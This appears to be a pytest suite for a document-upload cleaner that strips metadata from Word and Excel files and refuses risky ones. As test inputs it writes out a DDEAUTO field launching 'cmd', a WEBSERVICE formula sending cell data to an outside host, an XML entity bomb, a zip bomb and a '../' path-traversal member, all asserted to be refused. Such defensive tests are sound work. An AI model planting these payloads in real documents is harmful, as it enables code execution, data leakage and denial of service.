from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from openpyxl.comments import Comment
from tests.handed_in import CANARY, archive, document, members, picture, with_member, workbook

from avert.errors import RefusedFileError
from avert.web.uploads.cleaning import clean
from avert.web.uploads.files import HIDDEN

DOCX, XLSX = "word/document.xml", "xl/workbook.xml"
RELATIONS = "word/_rels/document.xml.rels"


def everything(data: bytes) -> bytes:
    return b"".join(name.encode() + content for name, content in members(data).items())


def paragraph_with(tag: str, **attributes: str) -> Any:
    def change(made: Any) -> None:
        element = OxmlElement(tag)
        for name, value in attributes.items():
            element.set(qn(name.replace("_", ":")), value)
        made.paragraphs[1]._p.append(element)

    return change


def test_a_document_loses_its_author_its_template_and_its_traces() -> None:
    def leave_traces(made: Any) -> None:
        made.paragraphs[1]._p.set(qn("w:rsidR"), "00AB12CD")
        variables = OxmlElement("w:docVars")
        variables.append(OxmlElement("w:docVar"))
        variables[0].set(qn("w:val"), CANARY)
        made.settings.element.append(variables)

    given = with_member(document(leave_traces), "docProps/custom.xml", CANARY.encode())
    done = clean(given, "x.doc")
    said = everything(done.content)
    assert CANARY.encode() not in said
    for trace in (b"docProps", b"rsid", b"thumbnail", b"Exif", b"customXml"):
        assert trace not in said
    assert done.name == "x.docx"
    opened = docx.Document(io.BytesIO(done.content))
    assert [paragraph.text for paragraph in opened.paragraphs][:2] == [
        "What was agreed",
        "The market opens on Monday.",
    ]
    assert len(opened.inline_shapes) == 1


def test_a_workbook_loses_its_author_and_keeps_its_numbers() -> None:
    done = clean(workbook(), "x")
    assert CANARY.encode() not in everything(done.content)
    sheet = openpyxl.load_workbook(io.BytesIO(done.content)).active
    assert [cell.value for cell in sheet[2]] == ["Market", 12, "=SUM(B2:B2)"]


def test_the_folder_a_workbook_was_kept_in_is_left_out() -> None:
    given = workbook()
    space = b"http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"
    path = b'<x15ac:absPath xmlns:x15ac="' + space + b'" url="C:\\CANARY\\"/>'
    told = members(given)[XLSX].replace(b"<sheets>", path + b"<sheets>")
    assert b"absPath" in told
    assert b"absPath" not in everything(clean(with_member(given, XLSX, told), "x").content)


def test_what_a_spreadsheet_program_keeps_for_itself_is_left_out() -> None:
    relations = "xl/_rels/workbook.xml.rels"
    own = b'<Relationship Id="rId99" Type="http://customschemas.example/metadata" Target="metadata"/></Relationships>'
    extension = (
        b'<extLst><ext uri="x"><go:data xmlns:go="http://customschemas.example/" r:id="rId99" xmlns:r="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships"/></ext></extLst></workbook>'
    )
    given = with_member(workbook(), "xl/metadata", CANARY.encode())
    for name, end, more in ((relations, b"</Relationships>", own), (XLSX, b"</workbook>", extension)):
        given = with_member(given, name, members(given)[name].replace(end, more))
    done = clean(given, "x").content
    assert openpyxl.load_workbook(io.BytesIO(done)).active["A2"].value == "Market"
    assert b"extLst" not in members(done)[XLSX]
    assert CANARY.encode() not in everything(done)


def test_the_template_that_every_new_document_begins_with_is_taken() -> None:
    template = Path(docx.__file__).parent / "templates" / "default.docx"
    assert clean(template.read_bytes(), "x").name == "x.docx"


@pytest.mark.parametrize("given", [document(), workbook()], ids=["document", "workbook"])
def test_cleaning_an_office_file_twice_changes_only_how_its_pictures_are_packed(given: bytes) -> None:
    once = members(clean(given, "x").content)
    twice = members(clean(clean(given, "x").content, "x").content)
    assert set(once) == set(twice)
    assert [name for name in once if once[name] != twice[name]] == [name for name in once if "media" in name]


def test_every_time_in_the_archive_is_the_same() -> None:
    with zipfile.ZipFile(io.BytesIO(clean(document(), "x").content)) as made:
        assert {member.date_time for member in made.infolist()} == {(1980, 1, 1, 0, 0, 0)}


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/activeX1.xml"])
def test_macros_are_refused(name: str) -> None:
    with pytest.raises(RefusedFileError, match="macros"):
        clean(with_member(document(), name, b"\xd0\xcf"), "x.docx")


def test_a_document_of_the_kind_with_macros_is_refused_under_any_name() -> None:
    types = members(document())["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    with pytest.raises(RefusedFileError, match="macros"):
        clean(with_member(document(), "[Content_Types].xml", types), "x.docx")


@pytest.mark.parametrize("tag", ["w:ins", "w:del", "w:moveFrom", "w:commentReference", "w:commentRangeStart"])
def test_tracked_changes_and_comments_are_refused(tag: str) -> None:
    with pytest.raises(RefusedFileError, match="tracked changes"):
        clean(document(paragraph_with(tag, w_author=CANARY)), "x.docx")


def test_comments_in_a_workbook_are_refused() -> None:
    def comment(made: Any) -> None:
        made.active["A1"].comment = Comment("she said so", CANARY)

    with pytest.raises(RefusedFileError, match="comments"):
        clean(workbook(comment), "x.xlsx")


def test_a_link_loses_its_address_and_keeps_its_words() -> None:
    def link(made: Any) -> None:
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
        target = made.part.relate_to("https://CANARY.example/", kind, is_external=True)
        paragraph_with("w:hyperlink", r_id=target)(made)

    done = clean(document(link), "x.docx")
    assert b"CANARY" not in everything(done.content)
    assert b"w:hyperlink" in members(done.content)[DOCX]


def test_a_picture_that_lies_elsewhere_is_refused() -> None:
    told = members(document())[RELATIONS].replace(b"media/image1.jpg", b"http://CANARY.example/a.jpg")
    told = told.replace(b'a.jpg"', b'a.jpg" TargetMode="External"')
    with pytest.raises(RefusedFileError, match="draws on"):
        clean(with_member(document(), RELATIONS, told), "x.docx")


@pytest.mark.parametrize("instruction", ['DDEAUTO cmd "/k calc"', 'INCLUDEPICTURE "http://a.example/p.png"'])
def test_a_field_that_reaches_out_is_refused(instruction: str) -> None:
    def fill(made: Any) -> None:
        half = len(instruction) // 2
        for part in (instruction[:half], instruction[half:]):
            paragraph_with("w:instrText")(made)
            made.paragraphs[1]._p[-1].text = part

    with pytest.raises(RefusedFileError, match="draws on"):
        clean(document(fill), "x.docx")


@pytest.mark.parametrize(
    "formula", ['=_xlfn.WEBSERVICE("http://a.example/?" & A1)', '=_xlfn.IMAGE("http://a.example")']
)
def test_a_formula_that_reaches_out_is_refused(formula: str) -> None:
    def fill(made: Any) -> None:
        made.active["D1"] = formula

    with pytest.raises(RefusedFileError, match="draws on"):
        clean(workbook(fill), "x.xlsx")


def test_hidden_sheets_and_words_are_said_to_be_there() -> None:
    def hide(made: Any) -> None:
        made.create_sheet("names").sheet_state = "veryHidden"

    assert HIDDEN in clean(workbook(hide), "x").notes
    assert HIDDEN in clean(document(paragraph_with("w:vanish")), "x").notes
    assert HIDDEN not in clean(workbook(), "x").notes


def test_entities_are_refused_before_they_grow() -> None:
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "' + b"x" * 1000 + b'">]><a>&b;</a>'
    begun = time.monotonic()
    with pytest.raises(RefusedFileError):
        clean(with_member(document(), DOCX, bomb), "x.docx")
    assert time.monotonic() - begun < 1


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = with_member(document(), "word/media/image2.png", b"\0" * 101 * 1024 * 1024)
    begun = time.monotonic()
    with pytest.raises(RefusedFileError, match="far larger"):
        clean(bomb, "x.docx")
    assert time.monotonic() - begun < 1


def test_one_that_unpacks_to_less_is_refused_for_how_dense_it_is() -> None:
    with pytest.raises(RefusedFileError, match="far larger"):
        clean(with_member(document(), "word/media/image2.png", b"\0" * 5_000_000), "x.docx")


def test_an_archive_of_very_many_files_is_refused() -> None:
    with pytest.raises(RefusedFileError, match="far larger"):
        clean(archive(**{str(number): b"" for number in range(2_001)}), "x.docx")


@pytest.mark.parametrize(
    "change",
    [
        lambda data: data + b"behind",
        lambda data: b"PK\x03\x04 before " + data,
        lambda data: with_member(data, "word/embeddings/a.docx", archive(a=b"x")),
        lambda data: with_member(data, "../up.xml", b"x"),
        lambda data: with_member(data, "WORD/document.xml", b"x"),
    ],
    ids=["behind", "before", "within", "upwards", "twice"],
)
def test_an_archive_with_more_in_it_than_the_document_is_refused(change: Any) -> None:
    with pytest.raises(RefusedFileError):
        clean(change(document()), "x.docx")


def test_other_archives_are_not_taken() -> None:
    with pytest.raises(RefusedFileError, match="none of these"):
        clean(archive(**{"mimetype": b"application/epub+zip", "a.xml": b"<a/>"}), "x.docx")


def test_a_picture_in_a_document_is_cleaned_like_any_other() -> None:
    given = document()
    assert b"Exif" in everything(given)
    assert CANARY.encode() in picture()
    assert b"Exif" not in everything(clean(given, "x").content)
